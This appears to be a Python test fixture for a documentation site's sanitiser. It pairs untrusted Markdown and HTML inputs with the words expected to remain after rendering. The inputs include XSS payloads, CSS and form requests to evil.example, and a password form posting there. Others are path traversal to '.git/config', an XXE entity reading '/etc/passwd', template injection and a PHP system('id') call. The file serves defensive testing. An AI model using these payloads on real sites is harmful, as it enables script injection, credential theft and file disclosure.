"""What strangers could send and the site shows as words: each text, and words of it that readers still see."""

from __future__ import annotations

from tests.site.writing import REVIEWED, page

SHOWN: dict[str, tuple[str, str]] = {
    "a script": ('<script>alert("a")</script>\n\nWords', "Words"),
    "a script from elsewhere": ("Words <script src=//evil.example/a.js></script>", "Words"),
    "a script in capitals": ("Words <ScRiPt/x>alert(1)</sCrIpT >", "Words"),
    "a script on two lines": ("Words <script\n>alert(1)</script\n>", "Words"),
    "a script in a script": ("Words <scr<script>ipt>alert(1)</scr</script>ipt>", "Words"),
    "a script that never ends": ("Words\n\n<script>alert(1)", "Words"),
    "a script behind a comment": ("Words\n\n<!--><script>alert(1)</script>-->", "Words"),
    "a script for one browser": ("Words\n\n<!--[if IE]><script>alert(1)</script><![endif]-->", "Words"),
    "a script in a section of characters": ("Words\n\n<![CDATA[<script>alert(1)</script>]]>", "Words"),
    "a script in wide letters": ("＜script＞alert(1)＜/script＞", "＜script＞alert(1)＜/script＞"),
    "a script in seven bits": ("+ADw-script+AD4-alert(1)", "+ADw-script+AD4-alert(1)"),
    "a script as entities": ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    "a script as code": ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    "a script as a note": ("Words[^1].\n\n[^1]: Note <script>alert(1)</script>", "Note"),
    "a script as the name of a note": ('Words[^"><script>].\n\n[^"><script>]: Note', "Note"),
    "a script as a tab": ('=== "<script>alert(1)</script>"\n\n    Words', "Words"),
    "a script as the title of a box": ('!!! note "<script>alert(1)</script>"\n    Words', "Words"),
    "a script as the language of code": ('```"><script>alert(1)</script>\nWords\n```', "Words"),
    "a script as an attribute of code": ("```{.python onclick=alert(1) style=color:red}\nWords\n```", "Words"),
    "a script as an abbreviation": ('*[NGO]: "><script>alert(1)</script>\n\nOur NGO', "Our NGO"),
    "a script as the title of a link": ('[Words](index.md "\\"><script>alert(1)</script>")', "Words"),
    "a script as the name of a heading": ('## Words {#x"onclick="alert(1) title="<script>"}\n\nText', "Words"),
    "an event": ('<p onclick="alert(1)">Words</p>', "Words"),
    "an event in braces": ("Words\n{: onclick=alert(1) onmouseover=alert(2) }", "Words"),
    "an event of a heading": ("## Words {: onfocus=alert(1) tabindex=0 autofocus=1 }", "Words"),
    "an event of a cell": ('| a |\n|---|\n| <b onmouseover="alert(1)">Words</b> |', "Words"),
    "an event of a picture": ('Words <img alt="A" src="a.png" onerror="alert(1)">', "Words"),
    "an event of a box": ('<div onclick="alert(1)" markdown="1">\nWords\n</div>', "Words"),
    "an event of the page": ("<body onload=alert(1)>\n\nWords", "Words"),
    "an event of a marquee": ("<marquee onstart=alert(1)>Words</marquee>", "Words"),
    "an event of an element of its own": ("<x-y onclick=alert(1)>Words</x-y>", "Words"),
    "a style": ('<p style="background:url(https://evil.example/a)">Words</p>', "Words"),
    "a style in braces": ("Words\n{: style=background:url(//evil.example/a) }", "Words"),
    "a style for the page": ("<style>@import url(//evil.example/a.css); body{display:none}</style>\n\nWords", "Words"),
    "a style from elsewhere": ("<link rel=stylesheet href=//evil.example/a.css>\n\nWords", "Words"),
    "the classes of a button": ("Words\n{: .leave .md-button .skip #leave }", "Words"),
    "a picture that speaks SVG": ("<svg onload=alert(1)><script>alert(1)</script></svg>\n\nWords", "Words"),
    "a picture that borrows": ('<svg><use href="data:image/svg+xml,x"/></svg>\n\nWords', "Words"),
    "a picture that animates a link": (
        '<svg><a><animate attributeName="href" to="javascript:x"/>A</a></svg>\n\nWords',
        "Words",
    ),
    "a formula that hides a picture": (
        '<math><mtext><table><mglyph><style><!--</style><img alt="A" src="a.png" title="--&gt;&lt;b onclick=alert(1)&gt;">'
        "\n\nWords",
        "",
    ),
    "a style that hides a picture": (
        '<svg></p><style><a id="</style><img alt=A src=a.png onerror=alert(1)>">\n\nWords',
        "",
    ),
    "words for browsers without scripts": (
        '<noscript><p title="</noscript><b onclick=alert(1)>">Words</p></noscript>',
        "",
    ),
    "a template": ("<template><script>alert(1)</script></template>\n\nWords", "Words"),
    "a text that ends all": ("Words\n\n<plaintext>", "Words"),
    "an example that runs": ("<xmp><script>alert(1)</script></xmp>\n\nWords", "Words"),
    "a frame": ('<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>\n\nWords', "Words"),
    "frames": ("<frameset><frame src=//evil.example/></frameset>\n\nWords", "Words"),
    "an object": ('<object data="a.swf"><embed src="a.swf"></object>\n\nWords', "Words"),
    "a film": (
        '<video poster="//evil.example/a.png" autoplay><source src="//evil.example/a"></video>\n\nWords',
        "Words",
    ),
    "a sound": ("<audio src=//evil.example/a autoplay></audio>\n\nWords", "Words"),
    "a way to another page": ('<meta http-equiv="refresh" content="0;url=//evil.example/">\n\nWords', "Words"),
    "a policy of its own": ('<meta http-equiv="Content-Security-Policy" content="script-src *">\n\nWords', "Words"),
    "another base": ('<base href="https://evil.example/">\n\nWords', "Words"),
    "a form": ('<form action="https://evil.example/"><input type=password name=p>Words</form>', "Words"),
    "a button": ('<button formaction="javascript:alert(1)">Words</button>', "Words"),
    "a field to write in": ("<textarea>A</textarea><select><option>B</option></select>\n\nWords", "Words"),
    "a dialog": ("<dialog open>Words</dialog>", "Words"),
    "something that pops up": ("<div popover id=x>Words</div>", "Words"),
    "a link that tells another": ('<a href="index.md" ping="//evil.example/">Words</a>', "Words"),
    "a link that opens another": ('<a href="https://good.example/" target=_blank>Words</a>', "Words"),
    "a key of the keyboard": ('<a href="index.md" accesskey="s">Words</a>', "Words"),
    "a page that can be written on": ("<p contenteditable autofocus>Words</p>", "Words"),
    "a script for an address": ("<javascript:alert(1)>\n\nWords", "Words"),
    "a script for an address with a tab": ("[Words](java\tscript:alert(1))", "Words"),
    "words that are another address in HTML": (
        '<a href="https://evil.example/">https://good.example</a>',
        "https://good",
    ),
    "words that are another address further down": (
        "[good.example]\n\n[good.example]: https://evil.example/",
        "good.example",
    ),
    "words that are another address as entities": ("[good&#46;example](https://evil.example/)", "good.example"),
    "words that are another address as code": ("[`good.example`](https://evil.example/)", "good.example"),
    "an order as entities": ("Pay &#8238;001 &#x202e;euros", "Pay 001 euros"),
    "a tag as entities": ("Wo&#xe0041;rds", "Words"),
    "a null as an entity": ("Words &#0;<b>&#7;</b>", "Words"),
    "an order of its own": ('<bdo dir="rtl">Words</bdo>', "Words"),
    "a snippet": ('--8<-- "../../.git/config"', '--8<-- "../../.git/config"'),
    "a snippet of another kind": ("{!../../mkdocs.yml!}", "{!../../mkdocs.yml!}"),
    "a template's command": ('{% include "mkdocs.yml" %} {# a #}', '{% include "mkdocs.yml" %} {# a #}'),
    "a program": ('<?php system("id") ?>\n\nWords', "Words"),
    "a document in the document": ("<!DOCTYPE html><html manifest=x><head></head></html>\n\nWords", "Words"),
    "a backtick where a quote belongs": ('<img alt="A" src="a.png" title=`onerror=alert(1)`>\n\nWords', "Words"),
}
"""By name: the text, and words that stay."""

BREAKING = """{% include "x" %}${7*7}<%= 7 %>#{7}</title></h1>"><script>alert(1)</script><b onclick='alert(1)' a=\""""
"""A title that would break out of a template, an element or an attribute."""

DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)"><script>alert(1)</script>
<style>@import url(https://evil.example/a.css);</style><image href="https://evil.example/a.png"/>
<a href="javascript:alert(1)"><path d="M0 0h9v9z" style="fill:url(https://evil.example/a)"/></a>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">A</body></foreignObject>
<use href="https://evil.example/a.svg#a"/><animate attributeName="href" to="javascript:alert(1)"/></svg>"""
BOMB = """<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&b;</text><path d="M0 0h9v9z"/></svg>"""


SET = '#read("/etc/passwd") #panic("a") `#panic("b")`{=typst} $ #eval("1") $ \\input{/etc/passwd} <script>alert(1)</script>'
"""Words that the programs which set documents would take for commands."""

POLICY = {
    "policies/strange/index.md": page(
        SET, f"## 1. {SET}\n\n1.1 {SET}\n", identifier="strange", version=1, status="draft", reviewed=REVIEWED
    ),
    "policies/strange/.ledger/clauses.txt": "1\n1.1\n",
}


def folder(name: str) -> str:
    """The folder of a case."""
    return f"strange/{name.lower().replace(' ', '-')}".replace("'", "")


def file(name: str) -> str:
    """The file of a case."""
    return page(name, SHOWN[name][0], reviewed=REVIEWED)
